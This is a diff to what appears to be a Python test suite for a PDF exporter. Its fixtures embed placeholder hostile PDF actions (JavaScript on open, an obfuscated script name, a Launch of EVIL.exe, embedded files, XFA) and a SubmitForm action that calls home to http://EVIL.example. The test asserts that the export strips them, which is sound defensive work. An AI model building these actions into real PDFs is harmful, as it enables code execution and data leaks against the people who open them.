@@ -15,7 +15,8 @@ from tests.support import documents
 
 EVIL = b"<< /S /JavaScript /JS (EVIL) >>"
 FILE = b"<< /Type /Filespec /F (EVIL.exe) /UF (EVIL.exe) /EF << /F 9 0 R >> >>"
-PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /A 5 0 R /AA 5 0 R >> >>"
+FONTS = b"/Resources << /Font << /A 5 0 R /AA 5 0 R >> >>"
+PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R " + FONTS
 WORDS = b"BT /A 12 Tf 20 150 Td (Kept by A) Tj /AA 12 Tf 0 -30 Td (Kept by AA) Tj ET"
 RECT = b"/Rect [10 10 50 50]"
 
@@ -52,7 +53,8 @@ WAYS: dict[str, tuple[bytes, bytes, tuple[bytes, ...], str]] = {
     "a spelt name": (b"/OpenAction << /S /J#61vaScript /J#53 (EVIL) >>", b"", (), "JavaScript"),
     "a script as a stream": (b"/OpenAction << /S /JavaScript /JS 6 0 R >>", b"", (stream(b"EVIL"),), "JavaScript"),
     "an unknown kind of action": (b"/OpenAction << /S /EVIL >>", b"", (), "actions"),
-    "a call home on opening": (b"/OpenAction << /S /SubmitForm /F (http://EVIL.example) >>", b"", (), "SubmitForm actions"),
+    "a call home on opening": (
+        b"/OpenAction << /S /SubmitForm /F (http://EVIL.example) >>", b"", (), "SubmitForm actions"),
     "scripts by name": (
         b"/Names << /JavaScript << /Names [(a) 6 0 R (b) %s] >> >>" % EVIL, b"", (EVIL,), "JavaScript"),
     "a script on closing": (b"/AA << /WC " + EVIL + b" >>", b"", (), "JavaScript"),
@@ -64,13 +66,15 @@ WAYS: dict[str, tuple[bytes, bytes, tuple[bytes, ...], str]] = {
     "a script of a child of a field": (
         b"/AcroForm << /Fields [<< /T (a) /Kids [<< /T (b) /AA << /V 6 0 R >> >>] >>] >>", b"", (EVIL,), "JavaScript"),
     "a program started": (
-        b"", annots(b"<< /Subtype /Link %s /A << /S /Launch /Win << /F (EVIL.exe) >> >> >>" % RECT), (), "Launch actions"),
+        b"", annots(b"<< /Subtype /Link %s /A << /S /Launch /Win << /F (EVIL.exe) >> >> >>" % RECT), (),
+        "Launch actions"),
     "a chain behind a jump": (
         b"", annots(b"<< /Subtype /Link %s /A << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >> >>" % RECT), (EVIL,),
         "JavaScript"),
     "a bookmark": (
         b"/Outlines 6 0 R", b"",
-        (b"<< /First 7 0 R /Last 7 0 R >>", b"<< /Title (kept) /Parent 6 0 R /A << /S /GoToR /F (EVIL.pdf) /D [0 /Fit] >> >>"),
+        (b"<< /First 7 0 R /Last 7 0 R >>",
+         b"<< /Title (kept) /Parent 6 0 R /A << /S /GoToR /F (EVIL.pdf) /D [0 /Fit] >> >>"),
         "GoToR actions"),
     "data brought in": (
         b"", annots(b"<< /Subtype /Link %s /A << /S /ImportData /F (EVIL.fdf) >> >>" % RECT), (), "ImportData actions"),
@@ -86,11 +90,13 @@ WAYS: dict[str, tuple[bytes, bytes, tuple[bytes, ...], str]] = {
         b"/Names << /EmbeddedFiles << /Kids [<< /Names [(EVIL) 6 0 R] >>] >> >>", b"", (FILE,), "embedded files"),
     "an attached file": (
         b"", annots(b"7 0 R", b"<< /Subtype /FileAttachment %s /FS 6 0 R >>" % RECT),
-        (FILE, b"<< /Subtype /FileAttachment %s /FS 6 0 R /Popup 8 0 R >>" % RECT, b"<< /Subtype /Popup %s /Parent 7 0 R >>" % RECT),
+        (FILE, b"<< /Subtype /FileAttachment %s /FS 6 0 R /Popup 8 0 R >>" % RECT,
+         b"<< /Subtype /Popup %s /Parent 7 0 R >>" % RECT),
         "embedded files"),
     "an associated file": (b"/AF [6 0 R]", b"/AF 6 0 R", (FILE,), "embedded files"),
     "a portfolio": (b"/Collection << /D (EVIL) >>", b"", (), "embedded files"),
-    "a program in a form": (b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>", b"", (stream(b"EVIL"),), "an XFA form"),
+    "a program in a form": (
+        b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>", b"", (stream(b"EVIL"),), "an XFA form"),
     "rich media": (
         b"", annots(b"<< /Subtype /RichMedia %s /RichMediaContent << /Assets << /Names [(EVIL) 6 0 R] >> >> >>" % RECT),
         (FILE,), "media"),
@@ -114,7 +120,7 @@ def test_nothing_of_a_pdf_acts_in_its_export(tmp_path: Path, way: str) -> None:
     again = pymupdf.open("pdf", made.content)
     assert b"EVIL" not in again.tobytes(expand=255).replace(b"/EVILless", b"")
     words = " ".join(again.xref_object(number, compressed=True) for number in range(1, again.xref_length()))
-    for name in ("/JavaScript", "/JS", "/AA<<", "/Launch", "/EF", "/XFA", "/EmbeddedFile", "/FileAttachment", "/Win"):
+    for name in ("/JavaScript", "/JS", "/AA<<", "/Launch", "/EF", "/XFA", "/EmbeddedFile", "/FileAttachment"):
         assert name not in words.replace(" ", "")
     assert again[0].get_text().split("\n")[:2] == ["Kept by A", "Kept by AA"]
     after = again[0].get_pixmap(annots=False).samples
